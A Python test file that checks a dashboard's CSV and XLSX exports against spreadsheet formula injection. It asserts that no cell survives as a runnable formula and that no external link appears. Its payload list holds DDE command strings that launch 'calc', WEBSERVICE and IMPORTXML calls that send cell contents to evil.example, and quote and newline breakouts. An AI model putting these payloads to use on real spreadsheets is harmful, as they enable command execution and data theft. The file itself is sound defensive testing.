"""Texts that a spreadsheet would run: in CSV and XLSX they are texts, in every column, and can be read back."""

import csv
import io
import zipfile
from itertools import product

import pandas as pd
from python_calamine import CalamineWorkbook

from dashboard.downloads import as_csv
from metrics.workbook import workbook

SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","x")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    '1";=1+1',
    "1\r\n=1+1",
    '1",=1+1,"',
)
PAYLOADS = [sign + call for sign, call in product(SIGNS, CALLS)]
_LIVE = tuple("=+-@\t\r\n＝＋－＠")


def test_no_cell_of_a_csv_or_a_workbook_is_run() -> None:
    rows = pd.DataFrame({"name": PAYLOADS, "note": PAYLOADS[::-1], "value": [-1.5] * len(PAYLOADS)})
    table = list(csv.reader(io.StringIO(as_csv(rows).decode(), newline="")))
    assert len(table) == len(PAYLOADS) + 1
    assert all(len(row) == 3 for row in table)
    cells = [cell for row in table[1:] for cell in row[:2]]
    assert {row[2] for row in table[1:]} == {"-1.5"}

    made = workbook({"rows": rows, "=1+1": rows}, "=1+1")
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        for name in parts.namelist():
            text = parts.read(name).decode()
            assert "<f>" not in text
            assert "<f " not in text
            assert "externalLink" not in name
            assert 'TargetMode="External"' not in text
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(made)).get_sheet_by_index(0).to_python()
    cells += [str(cell) for row in sheet[1:] for cell in row[:2]]
    assert [cell for cell in cells if cell.startswith(_LIVE)] == []
    print(f"formulas: {len(PAYLOADS)} texts tried in CSV and XLSX, 0 findings")
